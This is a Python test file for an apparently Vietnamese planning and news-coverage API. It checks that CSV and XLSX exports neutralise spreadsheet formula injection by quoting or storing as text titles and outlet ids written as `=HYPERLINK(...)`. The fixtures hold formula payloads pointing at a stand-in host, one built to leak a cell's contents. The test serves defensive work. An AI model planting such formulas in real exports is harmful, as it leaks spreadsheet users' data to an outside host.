"""Downloads through the gateway never carry a live formula: a task title or an outlet id typed
as `=HYPERLINK(...)` comes out quoted in CSV and as plain text in XLSX (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile

from openpyxl import load_workbook

from stack.demo import load_units
from stack.faultkit import plan_body, unique_number

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Bấm vào đây")'
RUN = uuid.uuid4().hex[:8]


def test_plan_exports_neutralise_formula_titles(api, rpc):
    load_units(rpc)
    created = api.post("/api/v1/plans", json=plan_body(unique_number("XLSX"), uuid.uuid4().hex,
                                                        "Kế hoạch kiểm thử xuất tệp"))
    assert created.status_code == 201, created.text
    plan_id = created.json()["id"]
    for task_id, title in (("t1", "Đăng tin"), ("t2", "-Tuyên truyền trên báo in")):
        added = api.post(f"/api/v1/plans/{plan_id}/tasks", json={"task_id": task_id, "task": {
            "title": title, "lead_unit_id": "bao-gia-lai", "due_date": "2021-06-30"}})
        assert added.status_code == 201, added.text
    # Renamed, so the audit journal records the formula as the title's new value.
    renamed = api.patch(f"/api/v1/plans/{plan_id}/tasks/t1",
                        json={"changes": {"title": HYPERLINK}})
    assert renamed.status_code == 200, renamed.text

    exported = api.get(f"/api/v1/plans/{plan_id}/export",
                       params={"format": "csv", "view": "tasks", "language": "en"})
    assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert [r["title"] for r in rows] == ["'" + HYPERLINK, "'-Tuyên truyền trên báo in"]
    assert {r["percent_complete"] for r in rows} == {"0.0"}  # numbers stay numbers

    book = api.get(f"/api/v1/plans/{plan_id}/export", params={"format": "xlsx"})
    assert book.status_code == 200
    with zipfile.ZipFile(io.BytesIO(book.content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and all(b"<f>" not in archive.read(name) for name in sheets)
    tasks = load_workbook(io.BytesIO(book.content))["Theo nhiệm vụ"]
    titles = {cell.value: cell for cell in tasks["C"]}
    assert titles[HYPERLINK].data_type == "s"  # the text as typed, never evaluated
    assert titles["-Tuyên truyền trên báo in"].data_type == "s"

    audit = api.get(f"/api/v1/plans/{plan_id}/audit", params={"format": "csv"})
    assert audit.status_code == 200, audit.text
    cells = [cell for row in csv.reader(io.StringIO(audit.content.decode("utf-8-sig")))
             for cell in row]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells


def test_coverage_csv_neutralises_a_formula_outlet(api):
    outlet = f"=HYPERLINK(\"http://x/?{RUN}\",\"Bấm\")"
    item = {"title": f"Triệt phá đường dây mua bán ma túy tại Pleiku {RUN}",
            "body": f"Công an tỉnh Gia Lai bắt giữ đối tượng mua bán trái phép chất ma túy đá, "
                    f"thu giữ nhiều tang vật. Mã kiểm thử {RUN}.",
            "url": f"https://baogialai.com.vn/xuat-tep-{RUN}.html",
            "published_at": "2021-03-10T08:30:00+07:00", "outlet_unit_id": outlet}
    pushed = api.post("/api/v1/items", json={"item": item})
    assert pushed.status_code == 200 and pushed.json()["outcome"] == "stored", pushed.text
    exported = api.get("/api/v1/coverage/export", params={"period": "month",
                                                          "outlet_unit_id": outlet})
    assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows and {r["outlet_unit_id"] for r in rows} == {"'" + outlet}
    assert all(int(r["items"]) >= 1 and int(r["stories"]) >= 1 for r in rows)
    table = api.get("/api/v1/coverage", params={"period": "month", "outlet_unit_id": outlet})
    assert [row["stories"] for row in table.json()["rows"]] == [int(r["stories"]) for r in rows]
